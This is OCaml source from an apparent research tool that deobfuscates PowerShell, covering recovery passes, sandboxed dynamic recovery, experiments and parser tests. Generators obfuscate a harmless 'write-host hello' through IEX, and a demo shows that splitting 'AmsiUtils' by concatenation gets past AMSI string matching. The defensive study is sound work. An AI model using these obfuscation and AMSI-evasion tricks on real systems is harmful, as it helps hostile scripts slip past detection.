                let prefix_text =
                  let first = List.hd prefix and last = List.nth prefix (List.length prefix - 1) in
                  Extent.text st.src (Extent.union first.A.extent last.A.extent)
                in
                let unknown =
                  List.exists (fun e -> has_unknown_variables st e) prefix
                in
                if unknown then None
                else
                  match invoke_piece ~kind:"pipeline-prefix" st prefix_text with
                  | Ok (Value.Str s) -> Some s
                  | Ok _ | Error _ -> None)
          | _ -> None)
      | _ -> None)
  | _ -> None

(* render a recursively-deobfuscated payload so it can replace a node in a
   non-statement position: multi-statement payloads are wrapped in $( ) *)
let inline_form recovered =
  let trimmed = String.trim recovered in
  let single_statement =
    match Psparse.Parser.parse trimmed with
    | Ok { A.node = A.Script_block { A.sb_statements = [ _ ]; _ }; _ } -> true
    | Ok _ | Error _ -> false
  in
  if single_statement && not (String.contains trimmed '\n') then trimmed
  else Printf.sprintf "$(%s)" trimmed

(* ---------- the pass ---------- *)

let rec recover_in_node st (node : A.t) =
  if is_recoverable node && not (A.children node = []) then begin
    let text = A.text st.src node in
    let recovered =
      if trivially_recovered text then None
      else if has_unknown_variables st node then None
      else
        match invoke_piece ~kind:(A.kind_name node) st text with
        | Ok value -> (
            match renderable value with
            | Some rendered
              when rendered <> String.trim text
                   (* replacing a piece with something longer is not
                      recovery — it re-encodes the obfuscation *)
                   && String.length rendered <= String.length text + 16 ->
                Some rendered
            | Some _ | None -> None)
        | Error _ -> None
    in
    match recovered with
    | Some rendered ->
        if add_edit st ~kind:"piece" node.A.extent rendered then begin
          st.stats.pieces_recovered <- st.stats.pieces_recovered + 1;
          T.Metrics.incr m_recovered
        end
        else descend st node
    | None -> descend st node
  end
  else descend st node

and descend st node =
  match node.A.node with
  | A.Variable_expr v -> substitute_variable st node v
  | A.Expandable_string (_, parts) ->
      List.iter
        (function
          | A.Part_variable (v, extent) -> substitute_in_string st extent v
          | A.Part_subexpr e -> recover_in_node st e
          | A.Part_text _ -> ())
        parts
  | _ -> List.iter (recover_in_node st) (A.children node)

and substitute_variable st node v =
  if st.opts.use_tracing && not v.A.var_splat then
    match Tracer.lookup st.table v.A.var_name with
    | Some ((Value.Str _ | Value.Int _ | Value.Float _ | Value.Char _) as value) -> (
        match Value.to_source_opt value with
        | Some rendered ->
            if add_edit st ~kind:"substitute" node.A.extent rendered then
              note_substitute st v.A.var_name
        | None -> ())
    | Some _ | None -> ()

and substitute_in_string st extent v =
  (* inside a double-quoted string: splice the raw value only when it cannot
     change the string's parse *)
  if st.opts.use_tracing then
    match Tracer.lookup st.table v.A.var_name with
    | Some (Value.Str s)
      when String.for_all
             (fun c ->
               match c with
               | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | ' ' | '.' | ',' | ':'
               | ';' | '/' | '\\' | '-' | '_' | '?' | '=' | '&' | '%' | '(' | ')' ->
                   true
               | _ -> false)
             s ->
        if add_edit st ~kind:"substitute" extent s then
          note_substitute st v.A.var_name
    | Some (Value.Int n) ->
        ignore (add_edit st ~kind:"substitute" extent (string_of_int n))
    | Some _ | None -> ()

(* record/evict symbol-table entries for an assignment statement *)
let trace_assignment st ~in_guard (stmt : A.t) =
  match stmt.A.node with
  | A.Assignment (op, lhs, rhs) -> (
      let target =
        match lhs.A.node with
        | A.Variable_expr v when not (String.contains v.A.var_name ':') ->
            Some v.A.var_name
        | A.Convert_expr (_, { A.node = A.Variable_expr v; _ }) -> Some v.A.var_name
        | _ -> None
      in
      match target with
      | None -> ()
      | Some name ->
          if in_guard || not st.opts.use_tracing then Tracer.remove st.table name
          else if Tracer.unknown_variables st.table rhs <> [] then
            Tracer.remove st.table name
          else if
            st.opts.use_blocklist
            && Blocklist.mentions_blocked_command (A.text st.src rhs)
          then Tracer.remove st.table name
          else begin
            (* compute the assigned value by executing the whole assignment *)
            let traced =
              guarded st (fun () ->
                  let text = A.text st.src stmt in
                  let prog = program_for st text in
                  let env = fresh_env ~for_bytes:(String.length text) st in
                  (match Tracer.lookup st.table name with
                  | Some v -> Pseval.Env.set_var env name v
                  | None -> ());
                  match Pseval.Compile.run_script env prog with
                  | Ok _ -> (
                      ignore op;
                      Ok (Pseval.Env.get_var env name))
                  | Error _ -> Error "evaluation failed")
            in
            match traced with
            | Ok (Some value) -> Tracer.record st.table name value
            | Ok None | Error _ -> Tracer.remove st.table name
          end)
  | _ -> ()

let rec process_statement st ~in_guard (stmt : A.t) =
  match stmt.A.node with
  | A.Assignment (_, _, rhs) ->
      (match
         if st.opts.use_multilayer && st.depth < st.opts.max_depth then
           multilayer_payload st rhs
         else None
       with
      | Some payload ->
          let recovered = st.deobfuscate ~depth:(st.depth + 1) payload in
          if add_edit st ~kind:"unwrap" rhs.A.extent (inline_form recovered) then
            note_unwrap st payload
          else recover_in_node st rhs
      | None -> recover_in_node st rhs);
      trace_assignment st ~in_guard stmt
  | A.Pipeline elems -> (
      let unwrapped_whole =
        match
          if st.opts.use_multilayer && st.depth < st.opts.max_depth then
            multilayer_payload st stmt
          else None
        with
        | Some payload ->
            let recovered = st.deobfuscate ~depth:(st.depth + 1) payload in
            if add_edit st ~kind:"unwrap" stmt.A.extent recovered then begin
              note_unwrap st payload;
              true
            end
            else false
        | None -> false
      in
      match unwrapped_whole with
      | true -> ()
      | false ->
          (* an IEX invocation that is one element of a longer pipe is
             replaced element-wise: iex(<enc>) | out-null *)
          let unwrapped_any = ref false in
          if st.opts.use_multilayer && st.depth < st.opts.max_depth
             && List.length elems > 1
          then
            List.iter
              (fun elem ->
                match elem.A.node with
                | A.Command cmd -> (
                    match payload_of_command st cmd ~piped_input:None with
                    | Some payload ->
                        let recovered = st.deobfuscate ~depth:(st.depth + 1) payload in
                        if add_edit st ~kind:"unwrap" elem.A.extent (inline_form recovered)
                        then begin
                          note_unwrap st payload;
                          unwrapped_any := true
                        end
                    | None -> ())
                | _ -> ())
              elems;
          if not !unwrapped_any then recover_in_node st stmt)
  | A.If_stmt (clauses, else_branch) ->
      List.iter
        (fun (cond, body) ->
          recover_in_node st cond;
          process_block st ~in_guard:true body)
        clauses;
      (match else_branch with
      | Some body -> process_block st ~in_guard:true body
      | None -> ());
      Tracer.evict_assigned st.table stmt
  (* loop bodies run many times: a variable assigned anywhere in the loop
     must be evicted {e before} the body is scanned, or its pre-loop value
     would be substituted into the body and fold a loop-carried update
     wrongly ($x = $x + 'b' with $x traced as 'a' becomes $x = 'ab').
     Branch bodies (if/switch) run at most once from the entry state, so
     substituting entry values there stays sound — they evict after. *)
  | A.While_stmt (cond, body) | A.Do_while_stmt (body, cond) | A.Do_until_stmt (body, cond) ->
      Tracer.evict_assigned st.table stmt;
      recover_in_node st cond;
      process_block st ~in_guard:true body;
      (* scanning the body re-records the loop's own assignments at their
         single-iteration values; evict again so code after the loop never
         sees them as traceable *)
      Tracer.evict_assigned st.table stmt
  | A.For_stmt (init, cond, step, body) ->
      Tracer.evict_assigned st.table stmt;
      (match init with Some s -> process_statement st ~in_guard:true s | None -> ());
      (match cond with Some c -> recover_in_node st c | None -> ());
      (match step with Some s -> process_statement st ~in_guard:true s | None -> ());
      process_block st ~in_guard:true body;
      Tracer.evict_assigned st.table stmt
  | A.Foreach_stmt (_, coll, body) ->
      Tracer.evict_assigned st.table stmt;
      recover_in_node st coll;
      process_block st ~in_guard:true body;
      Tracer.evict_assigned st.table stmt
  | A.Switch_stmt (value, cases, default) ->
      recover_in_node st value;
      List.iter (fun (_, body) -> process_block st ~in_guard:true body) cases;
      (match default with Some b -> process_block st ~in_guard:true b | None -> ());
      Tracer.evict_assigned st.table stmt
  | A.Function_def (_, _, body) -> process_block st ~in_guard:true body
  | A.Try_stmt (body, catches, finally) ->
      process_block st ~in_guard:true body;
      List.iter (fun (_, b) -> process_block st ~in_guard:true b) catches;
      (match finally with Some b -> process_block st ~in_guard:true b | None -> ());
      Tracer.evict_assigned st.table stmt
  | A.Return_stmt (Some e) | A.Throw_stmt (Some e) | A.Exit_stmt (Some e) ->
      recover_in_node st e
  | A.Return_stmt None | A.Throw_stmt None | A.Exit_stmt None | A.Break_stmt
  | A.Continue_stmt | A.Param_block _ | A.Trap_stmt _ ->
      ()
  | A.Named_block (_, body) ->
      process_block st ~in_guard:true body;
      Tracer.evict_assigned st.table stmt
  | A.Statement_block stmts | A.Script_block { A.sb_statements = stmts; _ } ->
      List.iter (process_statement st ~in_guard) stmts
  | _ -> recover_in_node st stmt

and process_block st ~in_guard (block : A.t) =
  match block.A.node with
  | A.Statement_block stmts | A.Script_block { A.sb_statements = stmts; _ } ->
      List.iter (process_statement st ~in_guard) stmts
  | _ -> process_statement st ~in_guard block

(** One recovery pass over an already-parsed script.  [deobfuscate] is the
    full engine used to process unwrapped layer payloads recursively.
    Returns [None] when the pass changed nothing (no edits, or edits that
    would break the script) and [Some (patched, ast)] — the new text with
    its validated parse, ready to thread into the next stage — otherwise. *)
let run_pass ~opts ~stats ~cache ~deobfuscate ~depth ?log ?(pass = 0)
    ?(suppress = []) ~ast src =
  let st =
    { opts; stats; cache; src; table = Tracer.create (); edits = []; suppress;
      deobfuscate; depth }
  in
  (match ast.A.node with
  | A.Script_block sb ->
      List.iter (process_statement st ~in_guard:false) sb.A.sb_statements
  | _ -> process_statement st ~in_guard:false ast);
  if st.edits = [] then None
  else
    let pairs = List.rev st.edits in
    match Patch.apply src (List.map fst pairs) with
    | patched when not (String.equal patched src) -> (
        match Psparse.Parser.parse patched with
        | Ok patched_ast ->
            (* journal only what was applied and validated *)
            stats.edits_recorded <-
              stats.edits_recorded
              + List.length (Patch.normalize (List.map fst pairs));
            Option.iter
              (fun l -> Editlog.record_stage l ~phase:"recover" ~pass ~src pairs)
              log;
            Some (patched, patched_ast)
        | Error _ -> None)
    | _ -> None
    | exception Invalid_argument _ -> None

(* ---------- dynamic recovery (PowerPeeler-style value provenance) ---------- *)

(* The static tracer deliberately skips loop- and conditional-carried
   assignments (Algorithm 1 guards them out), so loop-built strings,
   += / -join accumulators and conditional payload assembly stay
   obfuscated.  Dynamic recovery executes the script's top level in the
   sandbox with a provenance recorder installed, and replaces each such
   region with literal assignments of the bindings it actually changed —
   but only when the execution of the region was pure (no events, no
   unresolved commands, no pipeline or host output), every changed value
   has a faithful source rendering, and the provenance map proves each
   final value was defined inside the region.  Anything else degrades to
   the static result.  Every replacement is journaled like any other
   recovery edit, so the verify gate bisects and rolls back dynamic edits
   individually and Quarantine can circuit-break the rule keys
   (recover.dynamic.loop / recover.dynamic.conditional). *)

let dynamic_kind (stmt : A.t) =
  match stmt.A.node with
  | A.While_stmt _ | A.Do_while_stmt _ | A.Do_until_stmt _ | A.For_stmt _
  | A.Foreach_stmt _ ->
      Some "dynamic.loop"
  | A.If_stmt _ | A.Switch_stmt _ -> Some "dynamic.conditional"
  | _ -> None

let contains_function_def node =
  A.fold_pre_order
    (fun acc n -> acc || match n.A.node with A.Function_def _ -> true | _ -> false)
    false node

(* the rendered view of the global bindings: comparing rendered strings
   (not values) makes in-place array mutation visible across a snapshot,
   because re-rendering observes the mutation where a shared reference
   would not *)
let rendered_bindings env =
  List.map
    (fun (name, v) -> (name, Value.to_source_opt v))
    (Pseval.Env.global_bindings env)

let run_dynamic ~opts ~stats ?log ?(pass = 0) ?(suppress = []) src =
  if not opts.use_dynamic then None
  else
    match Psparse.Parser.parse src with
    | Error _ -> None
    | Ok ast ->
        let statements =
          match ast.A.node with
          | A.Script_block sb -> sb.A.sb_statements
          | _ -> [ ast ]
        in
        let is_candidate stmt =
          match dynamic_kind stmt with
          | None -> None
          | Some kind ->
              if
                Tracer.assigned_names stmt = []
                || contains_function_def stmt
                || (opts.use_blocklist
                   && Blocklist.mentions_blocked_command (A.text src stmt))
              then None
              else Some kind
        in
        if not (List.exists (fun s -> is_candidate s <> None) statements) then None
        else begin
          let limits =
            { Pseval.Env.default_limits with
              Pseval.Env.max_steps = opts.dynamic_step_budget }
          in
          let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox ~limits () in
          let prov = Pseval.Provenance.create () in
          env.Pseval.Env.provenance <- Some prov;
          let ctx = { Pseval.Interp.env; src } in
          let edits = ref [] in
          let halted = ref false in
          let unverifiable () =
            stats.dynamic_unverifiable <- stats.dynamic_unverifiable + 1;
            T.Metrics.incr m_dyn_unverifiable
          in
          let attempt stmt kind =
            stats.dynamic_attempted <- stats.dynamic_attempted + 1;
            T.Metrics.incr m_dyn_attempted;
            Chaos.probe "recover.dynamic";
            let before = rendered_bindings env in
            let events0 = List.length env.Pseval.Env.events in
            let cmds0 = List.length env.Pseval.Env.command_log in
            let sunk0 = List.length env.Pseval.Env.output_sink in
            let out = Pseval.Interp.eval_statement ctx stmt in
            let pure =
              out = []
              && List.length env.Pseval.Env.events = events0
              && List.length env.Pseval.Env.command_log = cmds0
              && List.length env.Pseval.Env.output_sink = sunk0
            in
            if not pure then unverifiable ()
            else begin
              let after = rendered_bindings env in
              let changed =
                List.filter
                  (fun (name, rendered) ->
                    match List.assoc_opt name before with
                    | Some prior -> prior <> rendered
                    | None -> true)
                  after
              in
              if changed = [] then ()
              else if List.exists (fun (_, r) -> r = None) changed then
                unverifiable ()
              else begin
                (* provenance is load-bearing: each changed binding must be
                   proven to have been last defined inside this region *)
                let proven =
                  Pseval.Provenance.poisoned prov = None
                  && List.for_all
                       (fun (name, _) ->
                         match Pseval.Provenance.last_write prov name with
                         | Some r -> Extent.contains stmt.A.extent r.Pseval.Provenance.extent
                         | None -> false)
                       changed
                in
                if not proven then unverifiable ()
                else begin
                  let ordered =
                    List.map
                      (fun (name, rendered) ->
                        let r = Option.get (Pseval.Provenance.last_write prov name) in
                        (r.Pseval.Provenance.step, r.Pseval.Provenance.spelled,
                         Option.get rendered))
                      changed
                    |> List.sort compare
                  in
                  let replacement =
                    String.concat "\n"
                      (List.map
                         (fun (_, spelled, rendered) ->
                           Printf.sprintf "$%s = %s" spelled rendered)
                         ordered)
                  in
                  let keep =
                    Quarantine.admits ~phase:"recover" ~kind
                    && not
                         (Editlog.suppressed suppress ~phase:"recover"
                            ~before:(Extent.text src stmt.A.extent)
                            ~after:replacement)
                  in
                  if keep then begin
                    edits := (Patch.edit stmt.A.extent replacement, kind) :: !edits;
                    stats.dynamic_recovered <- stats.dynamic_recovered + 1;
                    T.Metrics.incr m_dyn_recovered;
                    if T.active () then
                      T.event "recover.dynamic"
                        ~attrs:
                          [ ("kind", T.S kind);
                            ("bindings", T.I (List.length ordered)) ]
                  end
                end
              end
            end
          in
          List.iter
            (fun stmt ->
              if not !halted then
                match is_candidate stmt with
                | Some kind -> (
                    try attempt stmt kind
                    with e when Pseval.Interp.describe_exception e <> None ->
                      (* region execution failed: state past this point is
                         untrusted, so the rest degrades to static-only *)
                      halted := true;
                      unverifiable ())
                | None -> (
                    try ignore (Pseval.Interp.eval_statement ctx stmt) with
                    | Pseval.Interp.Return_exc _ | Pseval.Interp.Exit_exc ->
                        halted := true
                    | e when Pseval.Interp.describe_exception e <> None ->
                        halted := true))
            statements;
          if !edits = [] then None
          else
            let pairs = List.rev !edits in
            match Patch.apply src (List.map fst pairs) with
            | patched when not (String.equal patched src) -> (
                match Psparse.Parser.parse patched with
                | Ok patched_ast ->
                    stats.edits_recorded <-
                      stats.edits_recorded
                      + List.length (Patch.normalize (List.map fst pairs));
                    Option.iter
                      (fun l ->
                        Editlog.record_stage l ~phase:"recover" ~pass ~src pairs)
                      log;
                    Some (patched, patched_ast)
                | Error _ -> None)
            | _ -> None
            | exception Invalid_argument _ -> None
        end
