lib/deobf/tracer.ml: List Psast Pscommon Pseval Psvalue Strcase
