lib/psast/ast.ml: Extent List Pscommon
