(** Memory-pressure governor: heap watermarks feeding admission control.

    The serve daemon (and anything else that wants load-dependent
    behaviour) asks {!level} at admission time and acts on the answer:
    {ul
    {- [Ok] — under the soft watermark: admit normally;}
    {- [Soft] — past the soft watermark: shed new work explicitly
       (["overloaded"] with [reason:"memory"]) and shrink caches, so
       pressure relieves without touching work already admitted;}
    {- [Hard] — past the hard watermark: additionally recycle worker
       domains between requests, releasing domain-local state.}}

    Watermarks compare against the major heap ([Gc.quick_stat.heap_words]),
    which in OCaml 5 is runtime-wide — one governor covers every domain.
    A {!install_alarm} Gc alarm refreshes the [mem.heap_bytes] /
    [mem.level] gauges at the end of each major cycle so the scrape
    endpoint sees pressure even between {!level} calls.  Watermarks
    default to "never": a process that does not configure them is
    unaffected. *)

type level = Ok | Soft | Hard

val level_name : level -> string
(** ["ok"], ["soft"], ["hard"]. *)

val configure : ?soft_mb:int -> ?hard_mb:int -> unit -> unit
(** Set the watermarks in MiB.  Omitted, zero or negative values disable
    that watermark.  Callable at any time; stored atomically. *)

val soft_watermark_bytes : unit -> int option
val hard_watermark_bytes : unit -> int option

val heap_bytes : unit -> int
(** Current major-heap size in bytes (runtime-wide). *)

val level : unit -> level
(** Current pressure level (honouring any {!set_override}); also refreshes
    the [mem.heap_bytes] and [mem.level] gauges. *)

val set_override : level option -> unit
(** Test/bench hook — chaos for the governor: force the reported level
    regardless of the real heap, so pressure shedding and worker recycling
    are exercisable deterministically.  [None] restores real measurement. *)

val install_alarm : unit -> unit
(** Install the end-of-major-cycle Gc alarm that keeps the gauges fresh.
    Idempotent; the alarm never raises. *)

val to_json : unit -> string
(** One-line JSON snapshot: level, heap bytes, both watermarks. *)
