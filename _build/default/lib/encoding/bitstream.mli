(** LSB-first bit streams, as required by RFC 1951 (DEFLATE).

    Data elements other than Huffman codes are packed starting from the
    least-significant bit of each byte; Huffman codes are packed
    most-significant-bit first, which the dedicated accessors handle. *)

module Reader : sig
  type t

  val create : string -> t

  val bits : t -> int -> int
  (** [bits t n] reads [n] bits LSB-first (0 <= n <= 24).
      @raise Failure on exhausted input. *)

  val align_byte : t -> unit
  (** Skip to the next byte boundary. *)

  val bytes : t -> int -> string
  (** Read [n] raw bytes; requires byte alignment. *)

  val bit : t -> int
end

module Writer : sig
  type t

  val create : unit -> t

  val bits : t -> value:int -> count:int -> unit
  (** Append [count] bits of [value], LSB-first. *)

  val huffman : t -> code:int -> length:int -> unit
  (** Append a Huffman code of [length] bits, MSB-first as RFC 1951
      requires. *)

  val align_byte : t -> unit
  (** Pad with zero bits to a byte boundary. *)

  val byte : t -> char -> unit
  (** Append a raw byte; requires byte alignment. *)

  val contents : t -> string
  (** Final bytes; a trailing partial byte is zero-padded. *)
end
