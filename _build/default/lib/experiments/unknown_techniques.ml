(** §III-B1 — generalisation to unknown techniques.

    The paper claims that recoverable-node identification handles "not only
    known obfuscation techniques but also related unknown ones", because any
    value-producing decoder is executable regardless of which transformation
    produced it.  This experiment obfuscates [write-host hello] with four
    techniques that exist in {e no} tool's rule set — not even in our own
    detector — and measures which tools recover it. *)

open Pscommon

let base = "write-host hello"

let url_encode s =
  String.concat ""
    (List.init (String.length s) (fun i ->
         match s.[i] with
         | ('a' .. 'z' | 'A' .. 'Z' | '0' .. '9') as c -> String.make 1 c
         | c -> Printf.sprintf "%%%02X" (Char.code c)))

(* each generator yields a self-contained obfuscated script *)
let techniques =
  [
    ( "url-encoding",
      fun () ->
        Printf.sprintf "& ('ie'+'x') ([uri]::UnescapeDataString('%s'))"
          (url_encode base) );
    ( "char-code-join",
      fun () ->
        let codes =
          String.concat ","
            (List.init (String.length base) (fun i ->
                 string_of_int (Char.code base.[i])))
        in
        Printf.sprintf "& ('ie'+'x') ([string]::Join('', [char[]](%s)))" codes );
    ( "insert-remove-chain",
      fun () ->
        (* junk injected at a known offset, removed by the decoder *)
        let with_junk = String.sub base 0 5 ^ "XXQQZ" ^ String.sub base 5 (String.length base - 5) in
        Printf.sprintf "& ('ie'+'x') ('%s'.Remove(5,5))" with_junk );
    ( "substring-assembly",
      fun () ->
        let shuffled = "hello write-host" in
        Printf.sprintf
          "& ('ie'+'x') ('%s'.Substring(6,10) + ' ' + '%s'.Substring(0,5))"
          shuffled shuffled );
  ]

type row = { technique : string; recovered_by : (string * bool) list }

let recovered output =
  Strcase.contains ~needle:"write-host hello" output
  || Strcase.contains ~needle:"Write-Host hello" output

let run ?(tools = Baselines.All_tools.all) () =
  List.map
    (fun (name, gen) ->
      let script = gen () in
      {
        technique = name;
        recovered_by =
          List.map
            (fun tool ->
              let out =
                (tool.Baselines.Tool.deobfuscate script).Baselines.Tool.result
              in
              (tool.Baselines.Tool.name,
               recovered out
               && not (String.equal (String.trim out) (String.trim script))))
            tools;
      })
    techniques

let print rows =
  Printf.printf
    "SS III-B1: generalisation to techniques absent from every rule set\n";
  (match rows with
  | first :: _ ->
      Printf.printf "  %-22s" "Technique";
      List.iter (fun (tool, _) -> Printf.printf " %-14s" tool) first.recovered_by;
      Printf.printf "\n"
  | [] -> ());
  List.iter
    (fun r ->
      Printf.printf "  %-22s" r.technique;
      List.iter
        (fun (_, ok) -> Printf.printf " %-14s" (if ok then "recovered" else "x"))
        r.recovered_by;
      Printf.printf "\n")
    rows;
  Printf.printf
    "  (the paper's claim: execution-based recovery needs no per-technique rules)\n"
