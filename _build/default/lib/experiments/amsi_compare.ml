(** §V-B — comparison with AMSI.

    The paper runs its 100-sample set on a VM and inspects the final scripts
    AMSI captures, concluding that Invoke-Deobfuscation has similar
    deobfuscation ability on invoke-reaching code but also recovers pieces
    AMSI never sees (anything not handed to the engine), and that simple
    concatenation ('Amsi'+'Utils') bypasses AMSI's string matching. *)

type row = {
  tool : string;
  key_info_total : int;
  invoked_layers_seen : int;  (** samples where at least one layer surfaced *)
  non_invoked_recovered : int;
      (** samples where key info was recovered although the sample never
          invokes it (no IEX reaches it) *)
}

let run (set : Effectiveness.sample_set) =
  let samples = set.Effectiveness.samples in
  let grounds = set.Effectiveness.ground_truths in
  let eval_tool tool =
    let key_total = ref 0 and layered = ref 0 and non_invoked = ref 0 in
    List.iter2
      (fun sample ground ->
        let input = sample.Corpus.Generator.obfuscated in
        let out = (tool.Baselines.Tool.deobfuscate input).Baselines.Tool.result in
        let got =
          Keyinfo.intersection ~ground_truth:ground (Keyinfo.extract out)
        in
        key_total := !key_total + Keyinfo.count got;
        if not (String.equal (String.trim out) (String.trim input)) then
          incr layered;
        (* a sample whose script never reaches IEX: AMSI's blind spot *)
        let amsi_capture = Baselines.Amsi.scan input in
        if List.length amsi_capture.Baselines.Amsi.layers <= 1 && Keyinfo.count got > 0
        then incr non_invoked)
      samples grounds;
    {
      tool = tool.Baselines.Tool.name;
      key_info_total = !key_total;
      invoked_layers_seen = !layered;
      non_invoked_recovered = !non_invoked;
    }
  in
  [ eval_tool Baselines.Amsi.tool; eval_tool Baselines.All_tools.invoke_deobfuscation ]

let bypass_demo () =
  (* the paper's example: 'AmsiUtils' detection bypassed by concatenation.
     AMSI string-matches layers; the concatenated form never appears as a
     layer because it is computed, not invoked. *)
  let flagged = "AmsiUtils" in
  let script = "$a = 'Amsi'+'Utils'\n$a | Out-Null" in
  let capture = Baselines.Amsi.scan script in
  let amsi_sees =
    List.exists
      (fun layer -> Pscommon.Strcase.contains ~needle:flagged layer)
      capture.Baselines.Amsi.layers
  in
  let deobf = (Deobf.Engine.run script).Deobf.Engine.output in
  let we_see = Pscommon.Strcase.contains ~needle:flagged deobf in
  (amsi_sees, we_see)

let print rows =
  Printf.printf "SS V-B: comparison with AMSI (100-sample set)\n";
  Printf.printf "  %-22s %10s %14s %22s\n" "Tool" "key info" "changed/seen"
    "non-invoked recovered";
  List.iter
    (fun r ->
      Printf.printf "  %-22s %10d %14d %22d\n" r.tool r.key_info_total
        r.invoked_layers_seen r.non_invoked_recovered)
    rows;
  let amsi_sees, we_see = bypass_demo () in
  Printf.printf
    "  'Amsi'+'Utils' concatenation: AMSI sees the flagged string: %b; \
     Invoke-Deobfuscation recovers it: %b\n"
    amsi_sees we_see;
  Printf.printf
    "  (paper: similar ability on invoked code; AMSI misses pieces that are \
     never invoked)\n"
