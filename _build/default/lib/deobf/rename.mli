(** Renaming and reformatting (paper §III-C). *)

val is_vowel : char -> bool
val is_letter : char -> bool

val names_look_random : string list -> bool
(** The paper's statistic over the concatenation of all unique names:
    random when the vowel share of letters falls outside [32%, 42%]
    (Hayden 1950 puts English at 37.4%) or letters are under 10% of all
    characters. *)

val renameable_variable : string -> bool
(** Not an automatic variable and not drive-qualified. *)

val rename : string -> string
(** Rename randomised identifiers to [var{n}] / [func{n}] in order of first
    appearance, including interpolations inside double-quoted strings.
    Returns the input unchanged when names do not look random or the result
    would not parse. *)

val reformat : string -> string
(** Collapse horizontal whitespace, drop line continuations and comments,
    indent by brace depth.  Only existing gaps are rewritten, so member
    access and method-call adjacency survive.  Returns the input unchanged
    when the result would not parse. *)
