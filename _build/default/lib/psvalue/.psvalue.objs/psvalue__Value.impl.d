lib/psvalue/value.ml: Array Buffer Char Float Format List Option Printf Psast Pscommon Strcase String
