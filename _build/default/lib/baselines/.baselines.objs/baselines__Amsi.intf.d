lib/baselines/amsi.mli: Pseval Tool
