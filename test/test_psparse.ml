(* Tests for the PowerShell parser: node shapes, extents, precedence. *)

module A = Psast.Ast

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let parse src = Psparse.Parser.parse_exn src

let statements src =
  match (parse src).A.node with
  | A.Script_block sb -> sb.A.sb_statements
  | _ -> Alcotest.fail "expected script block"

let only_statement src =
  match statements src with
  | [ s ] -> s
  | l -> Alcotest.fail (Printf.sprintf "expected 1 statement, got %d" (List.length l))

(* find the first node of a given kind (post-order) *)
let find_kind src kind =
  let found = ref None in
  A.iter_post_order
    (fun n -> if !found = None && A.kind_name n = kind then found := Some n)
    (parse src);
  match !found with
  | Some n -> n
  | None -> Alcotest.fail ("no node of kind " ^ kind)

let kind_exists src kind =
  let found = ref false in
  A.iter_post_order (fun n -> if A.kind_name n = kind then found := true) (parse src);
  !found

let test_pipeline_shapes () =
  (match (only_statement "a | b | c").A.node with
  | A.Pipeline elems -> check_i "3 elements" 3 (List.length elems)
  | _ -> Alcotest.fail "expected pipeline");
  check_b "command ast" true (kind_exists "write-host x" "CommandAst");
  check_b "command expression" true (kind_exists "'lit'" "CommandExpressionAst")

let test_assignment () =
  match (only_statement "$x = 1 + 2").A.node with
  | A.Assignment (A.Assign, lhs, _) ->
      check_s "lhs kind" "VariableExpressionAst" (A.kind_name lhs)
  | _ -> Alcotest.fail "expected assignment"

let test_compound_assignment () =
  match (only_statement "$x += 5").A.node with
  | A.Assignment (A.Plus_assign, _, _) -> ()
  | _ -> Alcotest.fail "expected +="

let test_precedence_add_mul () =
  (* 1 + 2 * 3 parses as 1 + (2 * 3) *)
  let src = "1 + 2 * 3" in
  match (find_kind src "BinaryExpressionAst").A.node with
  | A.Binary_expr (A.Mul, _, _, _) -> ()  (* innermost (post-order first) is * *)
  | _ -> Alcotest.fail "expected * innermost"

let test_precedence_format_vs_comma () =
  (* "{0}{1}" -f 'a','b': comma binds tighter, so -f's rhs is an array *)
  let src = {|"{0}{1}" -f 'a','b'|} in
  match (find_kind src "ArrayLiteralAst").A.node with
  | A.Array_literal elems -> check_i "two parts" 2 (List.length elems)
  | _ -> Alcotest.fail "expected array literal"

let test_precedence_comparison_low () =
  (* $a + 1 -eq 2 parses as ($a + 1) -eq 2 *)
  let src = "$a + 1 -eq 2" in
  let top = only_statement src in
  match top.A.node with
  | A.Pipeline [ { A.node = A.Command_expression e; _ } ] -> (
      match e.A.node with
      | A.Binary_expr (A.Eq, _, lhs, _) ->
          check_s "lhs is add" "BinaryExpressionAst" (A.kind_name lhs)
      | _ -> Alcotest.fail "expected -eq at top")
  | _ -> Alcotest.fail "expected expression statement"

let test_unary () =
  check_b "negate" true (kind_exists "-5 + 1" "UnaryExpressionAst");
  check_b "not" true (kind_exists "!$x" "UnaryExpressionAst");
  check_b "join unary" true (kind_exists "-join $a" "UnaryExpressionAst")

let test_method_call_args_commas () =
  (* commas inside method args separate arguments, not arrays *)
  match (find_kind "$s.Replace('a','b')" "InvokeMemberExpressionAst").A.node with
  | A.Invoke_member (_, A.Member_name m, args, false) ->
      check_s "member" "Replace" m;
      check_i "two args" 2 (List.length args)
  | _ -> Alcotest.fail "expected instance invoke"

let test_static_member () =
  match (find_kind "[Convert]::FromBase64String('x')" "InvokeMemberExpressionAst").A.node with
  | A.Invoke_member (obj, A.Member_name m, _, true) ->
      check_s "member" "FromBase64String" m;
      check_s "obj is type" "TypeExpressionAst" (A.kind_name obj)
  | _ -> Alcotest.fail "expected static invoke"

let test_convert_vs_type_literal () =
  check_b "cast" true (kind_exists "[char]104" "ConvertExpressionAst");
  check_b "chained cast" true (kind_exists "[string][char]39" "ConvertExpressionAst");
  (* type literal before :: stays a literal *)
  match (find_kind "[Math]::Abs(1)" "TypeExpressionAst").A.node with
  | A.Type_literal t -> check_s "name" "Math" t
  | _ -> Alcotest.fail "expected type literal"

let test_index_expr () =
  match (find_kind "$pshome[4]" "IndexExpressionAst").A.node with
  | A.Index_expr (_, idx) -> check_s "idx" "ConstantExpressionAst" (A.kind_name idx)
  | _ -> Alcotest.fail "expected index"

let test_expandable_string_parts () =
  match (find_kind {|"val: $x and $(1+2)"|} "ExpandableStringExpressionAst").A.node with
  | A.Expandable_string (_, parts) ->
      let vars =
        List.filter (function A.Part_variable _ -> true | _ -> false) parts
      in
      let subs = List.filter (function A.Part_subexpr _ -> true | _ -> false) parts in
      check_i "one variable" 1 (List.length vars);
      check_i "one subexpr" 1 (List.length subs)
  | _ -> Alcotest.fail "expected expandable string"

let test_double_quoted_no_expansion_is_constant () =
  match (only_statement {|"plain"|}).A.node with
  | A.Pipeline [ { A.node = A.Command_expression e; _ } ] ->
      check_s "constant" "StringConstantExpressionAst" (A.kind_name e)
  | _ -> Alcotest.fail "expected constant"

let test_control_flow () =
  check_b "if" true (kind_exists "if (1) { 2 } else { 3 }" "IfStatementAst");
